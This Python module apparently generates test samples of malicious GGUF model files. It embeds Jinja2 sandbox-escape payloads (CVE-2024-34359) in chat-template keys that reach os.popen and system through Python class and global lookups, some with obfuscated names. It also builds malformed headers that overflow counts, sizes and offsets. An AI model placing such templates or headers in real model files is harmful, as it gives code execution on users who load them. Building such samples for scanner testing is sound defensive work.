"""GGUF models whose chat template leaves the sandbox, or whose header lies about its sizes."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from corpus.formats.plain import gguf, gguf_tensor
from corpus.sample import Sample, Variation

FAMILY = "GGUF"
TEMPLATE = "CVE-2024-34359"
HEADER = "https://www.databricks.com/blog/ggml-gguf-file-format-vulnerabilities"
OVERFLOW = "https://github.com/ggml-org/llama.cpp/security/advisories"
CLASSES = "().__class__.__base__.__subclasses__()"
BASE: dict[str, object] = {"general.architecture": "llama", "general.name": "tiny", "llama.block_count": 2}


def escapes(vary: Variation) -> tuple[tuple[str, str], ...]:
    """Templates that reach what no chat needs, each by another way."""
    command = vary.command()
    name = vary.pick(("cycler", "joiner", "namespace", "lipsum"))
    init = "" if name == "lipsum" else ".__init__"
    spelled = "".join(f"\\x{ord(letter):02x}" for letter in "__class__")
    return (
        ("all classes", f"{{{{ {CLASSES}[132].__init__.__globals__['system']('{command}') }}}}"),
        ("globals of a helper", f"{{{{ {name}{init}.__globals__.os.popen('{command}').read() }}}}"),
        ("names in halves", f"{{{{ ''['__cla' ~ 'ss__']['__mr' ~ 'o__'][1] }}}}{{# {command} #}}"),
        ("the filter attr", "{{ messages | attr('__class__') | attr('__base__') }}"),
        ("names in escapes", "{{ ''['" + spelled + "'] }}"),
        ("the filter map", "{{ [''] | map(attribute='__class__') | list }}"),
        ("the context of the template", "{{ self._TemplateReference__context.cycler.__init__.__globals__ }}"),
        (
            "a loop over classes",
            f"{{% for x in {CLASSES} %}}{{{{ x()._module if 'warning' in x.__name__ }}}}{{% endfor %}}",
        ),
        ("names by format", "{{ ''['%c%cclass%c%c' | format(95, 95, 95, 95)] }}"),
        ("a block set to a function", "{% set g = raise_exception.__globals__ %}{{ g['os'] }}"),
    )


def samples(vary: Variation) -> Iterator[Sample]:
    """Templates in their key and in others, then headers."""
    for technique, template in escapes(vary):
        greeting = vary.pick(("", "{{ bos_token }}{% for m in messages %}{{ m['content'] }}{% endfor %}"))
        key = vary.pick(("tokenizer.chat_template", "tokenizer.chat_template.tool_use"))
        yield _sample(f"template: {technique}", TEMPLATE, gguf({**BASE, key: greeting + template}))
    several = [template for _, template in vary.some(escapes(vary), 2)]
    yield _sample("templates in a list", TEMPLATE, gguf({**BASE, "tokenizer.chat_templates": several}))
    for technique, data in _headers(vary):
        yield _sample(f"header: {technique}", HEADER, data)


def _sample(technique: str, source: str, data: bytes) -> Sample:
    return Sample(name="model.gguf", data=data, family=FAMILY, technique=technique, source=source)


def _headers(vary: Variation) -> Iterator[tuple[str, bytes]]:
    huge = vary.pick((1 << 62, (1 << 64) - 1, 1 << 40))
    yield "more keys than the file has bytes", gguf(BASE, keys=huge)
    yield "more tensors than the file has bytes", gguf(BASE, count=huge)
    yield "an alignment that nothing divides by", gguf({**BASE, "general.alignment": vary.pick((0, 3, 7))})
    flat = gguf_tensor("w", (1,) * vary.pick((9, 5, 12)))
    yield "more dimensions than readers keep", gguf(BASE, flat, count=1, data=bytes(64))
    far = gguf_tensor("w", (4,), offset=vary.pick((1 << 63, (1 << 64) - 32)))
    yield "a tensor at an offset that overflows", gguf(BASE, far, count=1, data=bytes(64))
    twice = gguf_tensor("w", (4,)) + gguf_tensor("w", (4,), offset=32)
    yield "two tensors of one name", gguf(BASE, twice, count=2, data=bytes(64))
    text = struct.pack("<IQ", 8, (1 << 64) - 1) + b"abc"
    yield "a text as long as memory", gguf({**BASE, "general.description": text})
    array = struct.pack("<IIQ", 9, 4, vary.pick((1 << 62, 1 << 61))) + bytes(16)
    yield "an array whose size overflows", gguf({**BASE, "tokenizer.ggml.scores": array})
    wide = gguf_tensor("w", (1 << 33, 1 << 33))
    yield "a tensor whose size overflows", gguf(BASE, wide, count=1, data=bytes(64))
